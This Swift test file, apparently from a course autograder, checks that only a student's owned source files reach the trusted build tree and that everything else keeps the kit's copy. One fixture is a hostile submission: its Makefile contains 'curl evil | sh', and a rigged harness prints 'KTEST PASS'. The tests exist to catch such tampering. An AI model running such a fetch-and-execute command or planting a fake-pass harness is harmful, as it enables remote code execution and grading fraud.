// Tests/GraderKitTests/OverlayTests.swift -- only owned files reach the trusted tree.

import Foundation
import Testing
@testable import GraderKit

/// A small kit on disk: no real kernel, just the layout the overlay reads.
func makeFakeKit(in folder: TemporaryFolder, skeleton: Bool = true) throws -> Kit {
    try folder.write("kit/Makefile", "image:\n")
    try folder.write("kit/boot/kernel.ld", "trusted")
    try folder.write("kit/machine/ia32/entry.swift", "trusted")
    try folder.write("kit/grader/scripts/test-table.awk", "trusted")
    try folder.write("kit/assignments/01-set/tests/set_tests.swift", "func test_set_add() throws(TestFailure) {}\n")
    try folder.write("kit/assignments/01-set/hidden/secret_tests.swift", "func test_set_secret() throws(TestFailure) {}\n")
    try folder.write("kit/reference/kernel/error.swift", "kit error")
    try folder.write("kit/reference/harness/harness.swift", "kit harness")
    try folder.write("kit/reference/set/set.swift", "reference set")
    try folder.write("kit/reference/set/set_list.swift", "reference list")
    if skeleton {
        try folder.write("kit/build/skeletons/01-set/kernel/error.swift", "kit error")
        try folder.write("kit/build/skeletons/01-set/harness/harness.swift", "kit harness")
        try folder.write("kit/build/skeletons/01-set/set/set.swift", "skeleton set")
        try folder.write("kit/build/skeletons/01-set/set/set_list.swift", "skeleton list")
    }
    return try Kit(root: folder.url.appendingPathComponent("kit"))
}

@Suite struct OverlayTests {
    let folder: TemporaryFolder
    let kit: Kit
    let owned = [GlobPattern("set/**")]

    init() throws {
        folder = try TemporaryFolder("overlay")
        kit = try makeFakeKit(in: folder)
    }

    private func overlay(_ tree: String) async throws -> (OverlayReport, TrustedTree) {
        let taken = try await intake(SubmissionSource.parse(folder.path(tree)), in: folder)
        let trusted = try TrustedTree.assemble(kit: kit, assignment: "01-set",
                                               at: folder.url.appendingPathComponent("tree-\(UUID().uuidString)"))
        return (try Overlay.apply(taken, owned: owned, kit: kit, assignment: "01-set", tree: trusted), trusted)
    }

    private func text(_ tree: TrustedTree, _ path: String) throws -> String {
        try String(contentsOf: tree.root.appendingPathComponent(path), encoding: .utf8)
    }

    @Test func aStudentKitGivesOnlyItsOwnedFiles() async throws {
        try folder.write("alice/kernel/set/set.swift", "alice set")
        try folder.write("alice/kernel/set/set_list.swift", "alice list")
        try folder.write("alice/kernel/harness/harness.swift", "print(\"KTEST PASS\")")
        try folder.write("alice/Makefile", "image:\n\tcurl evil | sh\n")
        try folder.write("alice/assignments/01-set/tests/set_tests.swift", "func test_set_add() throws(TestFailure) {}\n// easier\n")
        try folder.write("alice/README.md", "notes")
        let (report, tree) = try await overlay("alice")
        #expect(report.coreRoot == "kernel")
        #expect(report.taken == ["set/set.swift", "set/set_list.swift"])
        #expect(try text(tree, "kernel/set/set.swift") == "alice set")
        // Everything else is the kit's, and the edits are listed.
        #expect(try text(tree, "kernel/harness/harness.swift") == "kit harness")
        #expect(try text(tree, "Makefile") == "image:\n")
        #expect(try text(tree, "assignments/01-set/tests/set_tests.swift").hasSuffix("{}\n"))
        #expect(report.ignored == ["Makefile", "assignments/01-set/tests/set_tests.swift", "kernel/harness/harness.swift"])
        #expect(report.missing.isEmpty)
    }

    @Test func missingOwnedFilesKeepTheSkeleton() async throws {
        try folder.write("bob/reference/set/set.swift", "bob set")
        try folder.write("bob/reference/kernel/error.swift", "kit error")
        let (report, tree) = try await overlay("bob")
        #expect(report.coreRoot == "reference")
        #expect(report.missing == ["set/set_list.swift"])
        #expect(try text(tree, "kernel/set/set_list.swift") == "skeleton list")
        #expect(try text(tree, "kernel/set/set.swift") == "bob set")
        #expect(report.ignored.isEmpty)
    }

    @Test func aBareOrWrappedCoreIsFound() async throws {
        try folder.write("carol/set/set.swift", "carol")
        #expect(try await overlay("carol").0.coreRoot == "")
        try folder.write("dave/dave-kit/kernel/set/set.swift", "dave")
        let (report, tree) = try await overlay("dave")
        #expect(report.coreRoot == "dave-kit/kernel")
        #expect(try text(tree, "kernel/set/set.swift") == "dave")
    }

    @Test func anOwnedFileThatIsALinkIsRefused() async throws {
        try folder.write("erin/kernel/set/real.swift", "x")
        try FileManager.default.createSymbolicLink(atPath: folder.path("erin/kernel/set/set.swift"),
                                                   withDestinationPath: "real.swift")
        await #expect(throws: IntakeError.ownedFileIsLink(submission: folder.path("erin"), entry: "kernel/set/set.swift")) {
            _ = try await overlay("erin")
        }
    }

    @Test func theDigestFollowsOwnedContentOnly() async throws {
        try folder.write("f1/kernel/set/set.swift", "same")
        try folder.write("f2/kernel/set/set.swift", "same")
        try folder.write("f2/kernel/harness/harness.swift", "changed, not owned")
        try folder.write("f3/kernel/set/set.swift", "different")
        let d1 = try await overlay("f1").0.digest
        #expect(try await overlay("f2").0.digest == d1)
        #expect(try await overlay("f3").0.digest != d1)
    }

    @Test func withoutASkeletonTheReferenceIsTheCore() throws {
        let other = try TemporaryFolder("noskel")
        let bare = try makeFakeKit(in: other, skeleton: false)
        #expect(bare.core(for: "01-set").lastPathComponent == "reference")
        #expect(kit.core(for: "01-set").path.hasSuffix("/kit/build/skeletons/01-set"))
        // --skeletons names another folder of trees: the default one is not looked at.
        let elsewhere = try Kit(root: folder.url.appendingPathComponent("kit"),
                                skeletons: folder.url.appendingPathComponent("trees"))
        #expect(elsewhere.core(for: "01-set").lastPathComponent == "reference")
        try folder.write("trees/01-set/set/set.swift", "other tree")
        #expect(elsewhere.core(for: "01-set").path.hasSuffix("/trees/01-set"))
        #expect(throws: KitError.unknownAssignment(name: "09-nope", known: ["01-set"])) { try kit.assignmentFolder("09-nope") }
    }

    @Test func globs() {
        #expect(GlobPattern("set/**").matches("set/a/b.swift"))
        #expect(GlobPattern("set/*.swift").matches("set/set.swift"))
        #expect(!GlobPattern("set/*.swift").matches("set/sub/set.swift"))
        #expect(GlobPattern("**/seg_*.swift").matches("a/b/seg_x.swift"))
        #expect(GlobPattern("**/seg_*.swift").matches("seg_x.swift"))
        #expect(GlobPattern("set/*.swift").literalHead == "set")
        #expect(GlobPattern("**/x").literalHead == nil)
    }

    @Test func sha256KnownVectors() {
        #expect(SHA256.hex(Data()) == "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855")
        #expect(SHA256.hex(Data("abc".utf8)) == "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad")
        let long = Data("abcdbcdecdefdefgefghfghighijhijkijkljklmklmnlmnomnopnopq".utf8)
        #expect(SHA256.hex(long) == "248d6a61d20638b8e5c026930c3e6039a33ce45964ff2167f6ecedd419db06c1")
        #expect(SHA256.hex(Data(repeating: 0x61, count: 1_000_000)) == "cdc76e5c9914fb9281a1c7e284d73e67f1809a48a497200e046d39ccc7112cd0")
    }
}

@Suite struct CoreRootTests {
    @Test func withNothingOwnedTheKitsLayoutDecides() throws {
        let folder = try TemporaryFolder("coreroot")
        // A teacher-like core handed in bare: it has its own kernel/ folder.
        try folder.write("ref/kernel/error.swift", "")
        try folder.write("ref/harness/harness.swift", "")
        let kitCore: Set<String> = ["kernel/error.swift", "harness/harness.swift"]
        #expect(CoreRoot.locate(in: folder.url.appendingPathComponent("ref"), owned: [], kitCore: kitCore) == "")
        try folder.write("kit/kernel/kernel/error.swift", "")
        #expect(CoreRoot.locate(in: folder.url.appendingPathComponent("kit"), owned: [], kitCore: kitCore) == "kernel")
    }
}
